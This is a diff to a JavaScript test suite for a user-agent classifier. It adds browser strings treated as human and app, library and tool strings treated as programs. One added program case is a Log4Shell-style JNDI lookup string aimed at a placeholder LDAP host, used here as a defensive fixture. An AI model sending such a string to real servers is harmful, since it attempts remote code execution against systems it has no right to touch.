@@ -47,6 +47,18 @@ test.each([
   ['an add-on', 'Mozilla/5.0 (Windows NT 5.1; rv:6.0) Gecko/20100101 Firefox/6.0 FirePHP/0.6'],
   ['a small browser', 'Dillo/2.2'],
   ['an old phone', 'SonyEricssonT100/R101'],
+  ['an old console', 'Mozilla/5.0 (PLAYSTATION 3; 3.55)'],
+  ['an engine named in the bracket', 'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; Touch; rv:11.0)'],
+  ['a browser whose text stops behind its engine', iphone],
+  ['a phone of KaiOS', 'Mozilla/5.0 (Mobile; Nokia_2720_Flip; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2'],
+  [
+    'Instagram on an iPhone',
+    `${iphone} Instagram 312.0.0.34.111 (iPhone14,5; iOS 17_0; en_US; en; scale=3.00; 1170x2532; 548323754)`,
+  ],
+  [
+    'Outlook',
+    'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; Microsoft Outlook 16.0.5444; ms-office; MSOffice 16)',
+  ],
 ])('%s is a person’s', (_, ua) => {
   expect(isProgram(ua)).toBe(false);
 });
@@ -61,6 +73,23 @@ test.each([
   'SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 (compatible; Googlebot-Mobile/2.1; +http://www.google.com/bot.html)',
   'python-requests/2.32',
   'Go-http-client/2.0',
+  'MyApp/1 CFNetwork/1410 Darwin/22',
+  'My%20App/45 CFNetwork/1568.200.51 Darwin/24.1.0',
+  'com.apple.WebKit.Networking/8621.2.5.10.10 Network/4277.120.1 iOS/18.5',
+  'MyApp/5.1 (iPhone; iOS 17.5.1; Scale/3.00)',
+  'MyApp/1.0 (com.example.MyApp; build:1; iOS 17.0.0) Alamofire/5.6.4',
+  'Dart/3.0 (dart:io)',
+  'Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A)',
+  'com.example.app/1 (Linux; U; Android 14; en_US; Pixel 8; Build/UD1A; Cronet/119.0.6045.31)',
+  'MyApp/3.2 okhttp/4.9.3',
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
+  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)',
+  'Mozilla/5.0 (Linux; Android 10; K)',
+  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)',
+  'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506',
+  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) wkhtmltopdf Safari/538.1',
+  '"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
+  `x \${jndi:ldap://a.example/b}`,
 ])('%s is a program', (ua) => {
   expect(isProgram(ua)).toBe(true);
 });
